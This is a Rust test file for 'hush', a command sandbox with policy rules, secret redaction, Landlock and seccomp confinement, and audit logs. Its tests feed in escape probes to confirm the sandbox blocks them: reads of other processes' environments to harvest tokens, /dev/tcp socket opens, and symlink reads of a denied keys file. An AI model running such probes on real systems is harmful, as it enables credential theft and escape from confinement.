        std::fs::write(&tmp, format!("{BASE_POLICY}\n{rules}")).unwrap();
        std::fs::rename(&tmp, self.policy()).unwrap();
    }

    /// Creates the vault (cheapest KDF the CLI accepts) holding `entries`.
    fn vault_with(&self, entries: &[(&str, &str)]) {
        let (code, _, err) = run_with_stdin(
            hush()
                .args(["vault", "init", "--passphrase-fd", "0", "--vault"])
                .arg(self.vault()),
            "fixture passphrase\n",
        );
        assert_eq!(code, 0, "{err}");
        for (name, value) in entries {
            let (code, _, err) = run_with_stdin(
                self.env(hush().args(["vault", "set", name, "--from-stdin", "--vault"]))
                    .arg(self.vault()),
                value,
            );
            assert_eq!(code, 0, "{err}");
        }
    }

    fn env<'a>(&self, cmd: &'a mut std::process::Command) -> &'a mut std::process::Command {
        cmd.env("HUSH_VAULT_PASSPHRASE_FILE", self.dir.path().join("pass"))
            .env("HUSH_VAULT", self.vault())
            .current_dir(self.workspace())
    }

    /// `hush run --policy P --audit-log L EXTRA -- ARGV`, in the workspace.
    fn cmd(&self, extra: &[&str], argv: &[&str]) -> std::process::Command {
        let mut cmd = hush();
        cmd.arg("run")
            .arg("--policy")
            .arg(self.policy())
            .arg("--audit-log")
            .arg(self.log())
            .args(extra);
        if !argv.is_empty() {
            cmd.arg("--").args(argv);
        }
        self.env(&mut cmd);
        cmd
    }

    fn run_sh(&self, script: &str) -> (i32, String, String) {
        run(&mut self.cmd(&[], &["sh", "-c", script]))
    }

    /// The audit events, after `hush audit verify` has accepted the log.
    fn events(&self) -> Vec<serde_json::Value> {
        let (code, out, err) = run(hush().args(["audit", "verify"]).arg(self.log()));
        assert_eq!(code, 0, "audit verify: {out}{err}");
        std::fs::read_to_string(self.log())
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()["event"].clone())
            .collect()
    }

    /// The one event of `kind` (there must be exactly one).
    fn event(&self, kind: &str) -> serde_json::Value {
        let all: Vec<serde_json::Value> = self
            .events()
            .into_iter()
            .filter(|e| e["kind"] == kind)
            .collect();
        assert_eq!(all.len(), 1, "{kind}: {all:?}");
        all[0].clone()
    }
}

#[test]
fn policy_deny_exits_126_with_the_rule_and_is_audited() {
    let fx = PolicyFixture::new(
        r#"
        [[commands]]
        id = "no-rm"
        program = "rm"
        effect = "deny"
        reason = "nothing is deleted here"
        "#,
    );
    std::fs::write(fx.workspace().join("keep"), "x").unwrap();
    let (code, out, err) = run(&mut fx.cmd(&[], &["rm", "keep"]));
    assert_eq!(code, 126, "{err}");
    assert_eq!(out, "");
    assert!(
        err.contains("nothing is deleted here") && err.contains("no-rm"),
        "{err}"
    );
    assert!(fx.workspace().join("keep").exists());
    let d = fx.event("decision");
    assert_eq!(d["effect"], "deny");
    assert!(
        d["rules"].as_array().unwrap().contains(&"no-rm".into()),
        "{d}"
    );
    assert_eq!(fx.event("exit")["code"], 126);
    assert!(fx.events().iter().all(|e| e["kind"] != "enforcement"));
}

/// `touch` needs a human's yes.
const ASK_TOUCH: &str = r#"
[[commands]]
id = "ask-touch"
program = "touch"
effect = "confirm"
reason = "touching files needs a human"
"#;

/// Whether `program --version` runs (else the test is skipped, or fails under CI).
fn has_tool(program: &str, test: &str) -> bool {
    crate::util::available(
        std::process::Command::new(program).arg("--version"),
        test,
        program,
    )
}

#[test]
fn policy_confirm_without_a_terminal_is_denied_and_audited() {
    if !has_tool(
        "setsid",
        "policy_confirm_without_a_terminal_is_denied_and_audited",
    ) {
        return;
    }
    let fx = PolicyFixture::new(ASK_TOUCH);
    // A new session has no controlling terminal, whatever the test runner has.
    let mut cmd = wrapped("setsid", &["-w".as_ref()], &fx.cmd(&[], &["touch", "made"]));
    cmd.stdin(std::process::Stdio::null());
    let (code, _, err) = run(&mut cmd);
    assert_eq!(code, 126, "{err}");
    assert!(err.contains("no terminal"), "{err}");
    assert!(!fx.workspace().join("made").exists());
    let c = fx.event("confirmation");
    assert_eq!(
        (c["asked"].clone(), c["answer"].clone()),
        (false.into(), "no-terminal".into())
    );
}

#[test]
fn policy_confirm_on_a_pseudo_terminal_yes_then_no() {
    if !has_tool("python3", "policy_confirm_on_a_pseudo_terminal_yes_then_no") {
        return;
    }
    let fx = PolicyFixture::new(ASK_TOUCH);
    let list = fx.dir.path().join("commands");
    // The second command carries a credential-looking argument: the prompt masks it.
    let token = fake_token(93);
    std::fs::write(
        &list,
        format!("[\"touch\", \"yes-file\"]\n[\"touch\", \"no-file\", \"{token}\"]\n"),
    )
    .unwrap();
    let tty = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/mcp/with_tty.py");
    let mut cmd = wrapped(
        "python3",
        &[tty.as_os_str(), "y,n".as_ref(), "--".as_ref()],
        &fx.cmd(&["--commands", list.to_str().unwrap()], &[]),
    );
    let (code, _, err) = run(&mut cmd);
    assert_eq!(code, 126, "the second command was refused: {err}");
    assert!(
        err.contains("tty| risk:") && err.contains("touching files needs a human"),
        "{err}"
    );
    assert!(
        err.contains("hush: [1] exit 0") && err.contains("hush: [2] exit 126"),
        "{err}"
    );
    assert!(fx.workspace().join("yes-file").exists());
    assert!(!fx.workspace().join("no-file").exists());
    assert!(
        !err.contains(&token),
        "the prompt showed the credential: {err}"
    );
    assert!(
        err.contains("tty| arguments: [\"no-file\", \"[REDACTED"),
        "{err}"
    );
    assert!(!std::fs::read_to_string(fx.log()).unwrap().contains(&token));
    let answers: Vec<(serde_json::Value, serde_json::Value)> = fx
        .events()
        .into_iter()
        .filter(|e| e["kind"] == "confirmation")
        .map(|e| (e["asked"].clone(), e["answer"].clone()))
        .collect();
    assert_eq!(
        answers,
        [(true.into(), "yes".into()), (true.into(), "no".into())]
    );
}

#[test]
fn policy_injects_only_granted_secrets_and_redacts_them_everywhere() {
    let fx = PolicyFixture::new(
        r#"
        [[filesystem]]
        id = "proc"
        paths = ["/proc/**"]
        rights = ["read"]

        [[secrets]]
        id = "tool"
        name = "tool-token"
        env = "TOOL_TOKEN"
        "#,
    );
    let granted = fake_token(91);
    let other = fake_token(92);
    fx.vault_with(&[("tool-token", &granted), ("other-token", &other)]);
    let (head, tail) = granted.split_at(14);
    // The launcher (`hush run`) holds the other token in its own environment; the program
    // looks for it there, in its parent's environment, and in its own.
    let launcher_file = fx.workspace().join("launcher");
    let script = format!(
        "while [ ! -s launcher ]; do sleep 0.01; done; read launcher < launcher; \
         env | sort; echo \"plain $TOOL_TOKEN\"; printf %s \"$TOOL_TOKEN\" | base64 -w0; echo; \
         printf 'split=%s' '{head}'; sleep 0.03; printf '%s\\n' \"${{TOOL_TOKEN#{head}}}\"; \
         e=environ; tr '\\0' '\\n' < /proc/$launcher/$e; \
         read s r < /proc/self/stat; read s r r p r2 < /proc/$s/stat; tr '\\0' '\\n' < /proc/$p/$e; \
         true"
    );
    let mut cmd = fx.cmd(&[], &["sh", "-c", &script]);
    cmd.env("OTHER_TOKEN", &other)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let child = cmd.spawn().unwrap();
    let tmp = fx.workspace().join("launcher.tmp");
    std::fs::write(&tmp, format!("{}\n", child.id())).unwrap();
    std::fs::rename(&tmp, &launcher_file).unwrap();
    let out = child.wait_with_output().unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    );
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    let vars: Vec<&str> = stdout
        .lines()
        .take_while(|l| !l.starts_with("plain "))
        .map(|l| l.split('=').next().unwrap())
        .collect();
    assert_eq!(vars, ["PATH", "PWD", "TOOL_TOKEN"], "{stdout}");
    for leak in [&granted, &other, &head.to_string(), &tail.to_string()] {
        assert!(
            !stdout.contains(leak.as_str()) && !stderr.contains(leak.as_str()),
            "{stdout}{stderr}"
        );
    }
    assert!(!stdout.contains("OTHER_TOKEN"), "{stdout}");
    assert!(stdout.contains("plain [REDACTED"), "{stdout}");
    assert!(stdout.contains("split=[REDACTED"), "{stdout}");
    if have(
        "landlock ABI",
        "policy_injects_only_granted_secrets (environ reads)",
    ) {
        // With a private /proc the launcher's pid does not exist there at all.
        let refused =
            stderr.matches("Permission denied").count() + stderr.matches("No such file").count();
        assert_eq!(refused, 2, "{stderr}");
    }
    let r = fx.event("redactions");
    // `env`, plain, base64, split.
    assert_eq!(r["count"], 4, "{r}");
    assert_eq!(
        r["rules"],
        serde_json::json!({"hush.known-value": 4}),
        "{r}"
    );
    let injected = fx.event("secrets_injected");
    assert_eq!(
        injected["secrets"],
        serde_json::json!([{"name": "tool-token", "env": "TOOL_TOKEN"}])
    );
    let log = std::fs::read_to_string(fx.log()).unwrap();
    let b64 = |s: &str| {
        use std::io::Write;
        let mut p = std::process::Command::new("base64")
            .arg("-w0")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        p.stdin.take().unwrap().write_all(s.as_bytes()).unwrap();
        String::from_utf8(p.wait_with_output().unwrap().stdout).unwrap()
    };
    for leak in [granted.clone(), other.clone(), b64(&granted)] {
        assert!(!log.contains(&leak), "a secret reached the audit log");
    }
}

#[test]
fn policy_missing_secret_fails_closed() {
    let fx = PolicyFixture::new(
        r#"
        [[secrets]]
        id = "tool"
        name = "absent-token"
        env = "TOOL_TOKEN"
        "#,
    );
    fx.vault_with(&[]);
    let (code, out, err) = fx.run_sh("echo ran");
    assert_eq!(code, 126, "{err}");
    assert_eq!(out, "");
    assert!(
        err.contains("`absent-token`") && err.contains("hush vault set"),
        "{err}"
    );
    assert_eq!(fx.event("exit")["code"], 126);
}

#[test]
fn policy_watch_applies_an_edit_to_the_next_command() {
    use std::io::{BufRead, BufReader, Write};
    let fx = PolicyFixture::new("");
    let mut cmd = fx.cmd(&["--watch-policy", "--commands", "-"], &[]);
    cmd.stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let mut child = cmd.spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let mut stderr = BufReader::new(child.stderr.take().unwrap());
    writeln!(stdin, r#"["sh", "-c", "echo first"]"#).unwrap();
    let mut seen = String::new();
    while !seen.contains("hush: [1] exit") {
        let mut line = String::new();
        assert!(
            stderr.read_line(&mut line).unwrap() > 0,
            "hush ended early: {seen}"
        );
        seen.push_str(&line);
    }
    assert!(seen.contains("hush: [1] exit 0"), "{seen}");
    fx.set_policy(
        r#"
        [[commands]]
        id = "no-more-shells"
        program = "{sh,dash,bash}"
        effect = "deny"
        "#,
    );
    writeln!(stdin, r#"["sh", "-c", "echo second"]"#).unwrap();
    drop(stdin);
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut stderr, &mut rest).unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout), "first\n");
    assert!(
        rest.contains("no-more-shells") && rest.contains("hush: [2] exit 126"),
        "{rest}"
    );
    assert_eq!(out.status.code(), Some(126));
    let effects: Vec<serde_json::Value> = fx
        .events()
        .into_iter()
        .filter(|e| e["kind"] == "decision")
        .map(|e| e["effect"].clone())
        .collect();
    assert_eq!(effects, ["allow", "deny"]);
    // One audit session for the whole command stream.
    assert_eq!(
        fx.events()
            .iter()
            .filter(|e| e["kind"] == "session_start")
            .count(),
        1
    );
}

/// Denies everything under the workspace's `keys/`.
const NO_KEYS: &str = r#"
[[filesystem]]
id = "no-keys"
paths = ["${workspace}/keys/**"]
rights = ["read", "write", "create", "delete"]
effect = "deny"
"#;

#[test]
fn policy_denied_path_read_is_refused_and_audited() {
    if !have(
        "landlock ABI",
        "policy_denied_path_read_is_refused_and_audited",
    ) {
        return;
    }
    let fx = PolicyFixture::new(NO_KEYS);
    std::fs::create_dir(fx.workspace().join("keys")).unwrap();
    std::fs::write(fx.workspace().join("keys/id"), "do-not-read\n").unwrap();
    std::fs::write(fx.workspace().join("notes"), "readable\n").unwrap();
    std::fs::create_dir(fx.workspace().join("src")).unwrap();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("f"), "outside\n").unwrap();
    let script = format!(
        "cat notes; cat keys/id; cat ./src/../keys/id; cat '{}/f'; true",
        outside.path().display()
    );
    let (code, out, err) = fx.run_sh(&script);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "readable\n", "{err}");
    // `keys/id` directly and through `..`, and the file outside every allowed path.
    assert_eq!(err.matches("Permission denied").count(), 3, "{err}");
    let enf = fx.event("enforcement");
    assert!(
        enf["mechanisms"]
            .as_array()
            .unwrap()
            .contains(&"landlock".into()),
        "{enf}"
    );
    assert!(fx
        .events()
        .iter()
        .any(|e| e["kind"] == "note" && e["message"].as_str().unwrap().contains("split around")));
}

#[test]
fn policy_output_flood_and_timeout_are_stopped_and_audited() {
    let fx = PolicyFixture::new(
        r#"
        [[commands]]
        id = "yes"
        program = "yes"

        [limits]
        output_bytes = 10000
        wall_seconds = 1
        "#,
    );
    let (code, out, err) = run(&mut fx.cmd(&[], &["yes"]));
    assert_eq!(code, 124, "{err}");
    assert_eq!(out.len(), 10000);
    assert!(err.contains("10000 bytes"), "{err}");
    let (code, _, err) = fx.run_sh("trap '' TERM; sleep 30");
    assert_eq!(code, 124, "{err}");
    let stops: Vec<(serde_json::Value, serde_json::Value)> = fx
        .events()
        .into_iter()
        .filter(|e| e["kind"] == "resources")
        .map(|e| (e["stopped_by"].clone(), e["output_bytes"].clone()))
        .collect();
    assert_eq!(stops.len(), 2, "{stops:?}");
    assert_eq!(stops[0], ("output".into(), 10000.into()));
    assert_eq!(stops[1].0, "wall-clock");
    let wall = fx
        .events()
        .into_iter()
        .filter(|e| e["kind"] == "resources")
        .map(|e| e["wall_ms"].as_u64().unwrap())
        .next_back()
        .unwrap();
    assert!((1000..30_000).contains(&wall), "{wall}");
}

#[test]
fn policy_network_off_and_cpu_limit_are_enforced_and_audited() {
    if !have(
        "seccomp",
        "policy_network_off_and_cpu_limit_are_enforced_and_audited",
    ) {
        return;
    }
    let fx = PolicyFixture::new(
        r#"
        [network]
        mode = "off"

        [limits]
        cpu_seconds = 1
        "#,
    );
    // `/dev/tcp` needs bash, which the policy sees as the shell it is.
    let (code, _, err) = run(&mut fx.cmd(&[], &["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/9"]));
    assert_ne!(code, 0);
    assert!(
        err.contains("Permission denied"),
        "socket not refused: {err}"
    );
    let (code, _, err) = fx.run_sh("while :; do :; done");
    assert!(code == 128 + 24 || code == 128 + 9, "{code} {err}");
    let events = fx.events();
    let enf: Vec<&serde_json::Value> = events
        .iter()
        .filter(|e| e["kind"] == "enforcement")
        .collect();
    assert!(
        enf[0]["mechanisms"]
            .as_array()
            .unwrap()
            .contains(&"seccomp".into()),
        "{enf:?}"
    );
    let res: Vec<&serde_json::Value> = events.iter().filter(|e| e["kind"] == "resources").collect();
    assert_eq!(res[1]["stopped_by"], "cpu", "{res:?}");
    assert_eq!(res[1]["limits_by"], "rlimit");
    assert!(res[1]["cpu_ms"].as_u64().unwrap() >= 900, "{res:?}");
}

#[test]
fn policy_flags_do_not_mix_with_the_policy_free_ones() {
    let fx = PolicyFixture::new("");
    let (code, _, err) = run(&mut fx.cmd(&["--allow-read", "/"], &["true"]));
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("--allow-read"), "{err}");
    let (code, _, err) = run(&mut hush_run(&["--watch-policy", "--", "true"]));
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("--policy"), "{err}");
}

#[test]
fn policy_settings_the_executor_cannot_honour_fail_closed() {
    let fx = PolicyFixture::new("[settings]\ntemp_workspace = true\n");
    let (code, out, err) = fx.run_sh("echo ran");
    assert_eq!((code, out.as_str()), (126, ""), "{err}");
    assert!(err.contains("temp_workspace"), "{err}");
}

#[test]
fn policy_escapes_are_refused_or_stopped_and_every_run_is_audited() {
    let name = "policy_escapes_are_refused_or_stopped_and_every_run_is_audited";
    if !have("landlock ABI", name) {
        return;
    }
    let outside = tempfile::tempdir().unwrap();
    let keep = outside.path().join("keep");
    std::fs::create_dir(&keep).unwrap();
    std::fs::write(keep.join("a"), "kept\n").unwrap();
    // Read, write and create under `keep`, but no delete.
    let fx = PolicyFixture::new(&format!(
        r#"{NO_KEYS}
        [[filesystem]]
        id = "keep"
        paths = ["{keep}/**"]
        rights = ["read", "write", "create"]

        [[commands]]
        id = "python"
        program = "/usr/bin/python3*"
        shell = true

        [limits]
        memory_mb = 256
        "#,
        keep = keep.display()
    ));
    let ws = fx.workspace();
    std::fs::create_dir(ws.join("keys")).unwrap();
    std::fs::write(ws.join("keys/id"), "do-not-read\n").unwrap();
    std::os::unix::fs::symlink(ws.join("keys/id"), ws.join("link")).unwrap();
    std::fs::copy("/bin/true", ws.join("mytrue")).unwrap();
    let mut runs = 0;

    // A denied file through a symlink and through /proc/self/root.
    let (code, out, err) = fx.run_sh(&format!(
        "cat link; cat /proc/self/root{}/keys/id; true",
        ws.display()
    ));
    runs += 1;
    assert_eq!((code, out.as_str()), (0, ""), "{err}");
    assert_eq!(
        err.matches("Permission denied").count() + err.matches("No such file or directory").count(),
        2,
        "{err}"
    );
    // Writing outside every allowed path.
    let (code, _, err) = fx.run_sh(&format!(
        "echo x > '{}/new'; true",
        outside.path().display()
    ));
    runs += 1;
    assert_eq!(code, 0, "{err}");
    assert!(!outside.path().join("new").exists(), "{err}");
    assert!(err.contains("Permission denied"), "{err}");
    // Deleting where only read, write and create are granted.
    let (code, _, err) = fx.run_sh(&format!("rm -f '{}/a'; true", keep.display()));
    runs += 1;
    assert_eq!(code, 0, "{err}");
    assert_eq!(std::fs::read_to_string(keep.join("a")).unwrap(), "kept\n");
    // Executing a binary from a directory without the execute right.
    let (code, _, err) = fx.run_sh("./mytrue");
    runs += 1;
    assert_eq!(code, 126, "{err}");
    // A grandchild that ignores SIGTERM and outlives its parent ends with the run.
    let marker = format!("hush-escape-{}", std::process::id());
    let (code, out, err) = fx.run_sh(&format!(
        "sh -c 'trap \"\" TERM; sleep 300' {marker} & echo started"
    ));
    runs += 1;
    assert_eq!((code, out.as_str()), (0, "started\n"), "{err}");
    assert_eq!(survivors(&marker), 0);
    // A memory hog under the policy's memory limit.
    if have_python(name) {
        let (code, out, err) = run(&mut fx.cmd(
            &[],
            &[
                "/usr/bin/python3",
                "-c",
                "b = bytearray(1 << 30); print('survived')",
            ],
        ));
        runs += 1;
        assert_ne!(code, 0, "{out}{err}");
        assert!(!out.contains("survived"), "{out}{err}");
    }

    // Every run: one session, allowed, confined by Landlock, and its end recorded.
    let events = fx.events();
    let count = |kind: &str| events.iter().filter(|e| e["kind"] == kind).count();
    assert_eq!(count("session_start"), runs);
    assert_eq!(count("exit"), runs);
    assert_eq!(count("resources"), runs);
    let enforcement: Vec<&serde_json::Value> = events
        .iter()
        .filter(|e| e["kind"] == "enforcement")
        .collect();
    assert_eq!(enforcement.len(), runs);
    for e in enforcement {
        assert!(
            e["mechanisms"]
                .as_array()
                .unwrap()
                .contains(&"landlock".into()),
            "{e}"
        );
    }
    let exits: Vec<i64> = events
        .iter()
        .filter(|e| e["kind"] == "exit")
        .map(|e| e["code"].as_i64().unwrap_or(-1))
        .collect();
    assert_eq!(exits[3], 126, "{exits:?}");
}

#[test]
fn policy_network_allowlist_refuses_unlisted_hosts_and_audits_them() {
    let name = "policy_network_allowlist_refuses_unlisted_hosts_and_audits_them";
    if !have_python(name) || !(have("+net", name) || have("tcp", name)) {
        return;
    }
    let allowed = LocalServer::start("allowed");
    let other = LocalServer::start("other");
    let (a, o) = (allowed.port.to_string(), other.port.to_string());
    let fx = PolicyFixture::new(&format!(
        r#"
        [[commands]]
        id = "python"
        program = "/usr/bin/python3*"
        shell = true

        [network]
        mode = "allowlist"
        allow = ["127.0.0.1:{a}"]
        "#
    ));
    let (code, out, err) = run(&mut fx.cmd(&[], &["/usr/bin/python3", "-c", NET_PROBES, &a, &o]));
    assert_eq!(code, 0, "{out}{err}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines[0], "allowed: ok hello from allowed", "{out}{err}");
    assert_eq!(lines[1], "other: refused 403", "{out}{err}");
    assert!(
        lines.last().unwrap().starts_with("direct: blocked"),
        "the proxy was bypassed: {out}{err}"
    );
    assert_eq!(other.hits(), 0, "the unlisted server was reached");
    let notes: Vec<String> = fx
        .events()
        .into_iter()
        .filter(|e| e["kind"] == "note")
        .map(|e| e["message"].as_str().unwrap_or_default().to_string())
        .collect();
    assert!(
        notes
            .iter()
            .any(|n| n.contains("network proxy refused") && n.contains(&format!("127.0.0.1:{o}"))),
        "{notes:?}"
    );
}
